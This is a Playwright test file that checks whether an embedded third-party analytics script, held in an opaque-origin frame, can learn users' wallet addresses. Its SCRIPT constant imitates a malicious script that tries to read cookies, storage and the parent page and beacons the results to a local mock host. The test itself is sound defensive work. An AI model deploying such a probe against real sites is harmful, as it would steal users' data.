import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";
import { pasteWallet, pathOf, slider, waitForScripts } from "./support/estimator";
import { startApp, type AppProcess } from "../tests/support/app-process";
import { row, rowLink, storeScenarios } from "./support/alternatives";
import { expect, test } from "./support/test";

const WALLET = "0x2222222222222222222222222222222222222222";
const OTHER_WALLET = "0x3333333333333333333333333333333333333333";
const SAVED_WALLET = "0x4444444444444444444444444444444444444444";

/**
 * Behaves like a typical analytics script: uses whatever storage it finds, and reports its address
 * and referrer. Then it tries what a malicious script would.
 */
const SCRIPT = `
  const { localStorage } = window;
  const { websiteId } = document.currentScript.dataset;
  const attempt = (read) => { try { return String(read()); } catch ({ name }) { return name; } };
  const inChild = (read) => read(document.head.appendChild(document.createElement("iframe")).contentWindow);
  const peek = () => ({
    storage: attempt(() => localStorage),
    session: attempt(() => sessionStorage.length),
    cookies: attempt(() => document.cookie),
    pageText: attempt(() => parent.document.body.textContent),
    pageAddress: attempt(() => parent.location.href),
    pageStorage: attempt(() => parent.localStorage),
    childStorage: attempt(() => inChild((child) => child.localStorage.length)),
  });
  const report = () => {
    const body = (by) => JSON.stringify({
      by, websiteId, href: location.href, referrer: document.referrer, title: document.title, seen: peek(),
    });
    navigator.sendBeacon("ORIGIN/report", body("beacon"));
    fetch("ORIGIN/report", {
      method: "POST", body: body("fetch"), headers: { "Content-Type": "application/json" }, keepalive: true,
    }).then((response) => response.text());
  };
  for (const name of ["pushState", "replaceState"]) {
    const original = history[name];
    history[name] = function () { original.apply(this, arguments); report(); };
  }
  report();
`;

/** What the script can read when its frame has an opaque origin. */
const NOTHING = {
  storage: "undefined",
  session: "SecurityError",
  cookies: "SecurityError",
  pageText: "SecurityError",
  pageAddress: "SecurityError",
  pageStorage: "SecurityError",
  childStorage: "SecurityError",
};

test.describe("the analytics script", () => {
  let analytics: Awaited<ReturnType<typeof startAnalytics>>;
  let server: AppProcess;

  test.beforeEach(async ({ context }) => {
    analytics = await startAnalytics();
    server = await startApp({
      ANALYTICS_SCRIPT_URL: `${analytics.url}/script.js`,
      ANALYTICS_SITE_ID: "site-7",
    });
    await storeScenarios(context, [["mine", { wallet: SAVED_WALLET }]]);
  });
  test.afterEach(async () => {
    await server.stop();
    await analytics.close();
  });

  /** Expects complete reports, and no wallet in any request. */
  function expectHarmless() {
    const reports = analytics.reports();
    expect(new Set(reports.map(({ by }) => by))).toEqual(new Set(["beacon", "fetch"]));
    for (const report of reports) {
      expect(report).toMatchObject({
        websiteId: "site-7",
        href: `${server.url}/analytics`,
        referrer: "",
        seen: NOTHING,
      });
    }
    const sent = JSON.stringify(analytics.requests).toLowerCase();
    for (const wallet of [WALLET, OTHER_WALLET, SAVED_WALLET, "wallet=", "fdv"]) {
      expect(sent).not.toContain(wallet);
    }
  }

  test("runs and reports, but never learns a wallet", async ({ page }) => {
    await page.goto(`${server.url}${pathOf({ wallet: WALLET, fdv: 450_000_000 })}`);
    await waitForScripts(page);
    await expect.poll(() => analytics.reports().length).toBe(2);
    await slider(page, "FDV").press("End");
    await pasteWallet(page, OTHER_WALLET);
    await expect(page).toHaveURL(new RegExp(`wallet=${OTHER_WALLET}&fdv=1000000000$`));
    await expect(page.getByTestId("loading")).toHaveCount(0);
    await page.reload();
    await expect.poll(() => analytics.reports().length).toBe(4);
    // What comes late; the server stops after this.
    await rowLink(page, "mine").scrollIntoViewIfNeeded();
    await expect(row(page, "mine")).not.toContainText("Loading…");
    for (const name of ["points.theo", "kaito"])
      await expect(page.locator(`[name="${name}"]`)).toBeAttached();
    await expect(page.getByTestId("points-testnet")).toBeAttached();
    expect(await page.evaluate(() => JSON.stringify(localStorage))).toContain(SAVED_WALLET);
    expectHarmless();
  });

  test("can't read anything when its frame is opened as a page either", async ({ page }) => {
    await page.goto(`${server.url}/`);
    await waitForScripts(page);
    await expect.poll(() => analytics.reports().length).toBe(2);
    analytics.requests.length = 0;
    await page.goto(`${server.url}/analytics`);
    await expect.poll(() => analytics.reports().length).toBe(2);
    // A top-level page is its own parent, and may know its own address.
    const own = { pageText: "", pageAddress: `${server.url}/analytics`, pageStorage: "undefined" };
    for (const { seen } of analytics.reports()) expect(seen).toEqual({ ...NOTHING, ...own });
  });
});

/** A third-party analytics server that records every request. */
async function startAnalytics() {
  const requests: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    requests.push({ url: request.url ?? "", headers: request.headers, body });
    response.setHeader("Content-Type", "text/javascript");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Access-Control-Allow-Headers", "*");
    response.end(request.url === "/script.js" ? SCRIPT.replaceAll("ORIGIN", url) : "");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    requests,
    reports: () => requests.flatMap(({ body }) => (body === "" ? [] : [JSON.parse(body)])),
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
